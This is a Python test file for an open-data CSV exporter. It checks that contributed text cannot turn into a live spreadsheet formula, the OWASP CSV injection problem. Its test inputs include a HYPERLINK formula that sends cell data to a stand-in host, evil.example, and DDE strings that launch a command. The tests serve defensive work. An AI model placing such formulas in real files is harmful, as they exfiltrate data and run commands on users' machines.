"""Open data CSV opened in a spreadsheet: no contributed text can become a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from content_model.schema import KINDS_BY_NAME
from open_data.export import Column, cell, columns, csv_text, parse_cell, read_csv

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")", "+226 25 30 00 00", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''=1+1", "'plain quote"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_never_starts_with_a_formula_trigger(text) -> None:
    written = cell(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", HOSTILE + ["Coopérative", "", "0123"])
def test_the_guard_is_removed_when_the_csv_is_read_back(text) -> None:
    column = Column("name", ("name",), KINDS_BY_NAME["organisation"].get("name"))
    assert parse_cell(cell(text), column) == (text or None)


def test_numbers_stay_numbers() -> None:
    # A longitude west of Greenwich is a number, not a formula: spreadsheets must still read it as -12.5.
    assert cell(-12.5) == "-12.5"
    assert cell(["-x", "y"]).startswith("'-x")


def test_a_whole_csv_file_round_trips_with_hostile_names() -> None:
    kind = KINDS_BY_NAME["organisation"]
    cols = columns(kind, ("fr", "en"))
    name_col = next(c for c in cols if c.path == ("name",))
    items = [{"slug": "a", "name": text, "coordinates": {"lat": 12.3, "lon": -1.5}} for text in HOSTILE]
    text = csv_text(items, cols)
    rows = list(csv.reader(io.StringIO(text)))[1:]
    index = [c.header for c in cols].index(name_col.header)
    assert all(not row[index].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
    back = read_csv(text, cols)
    assert [row[name_col.header] for row in back] == HOSTILE
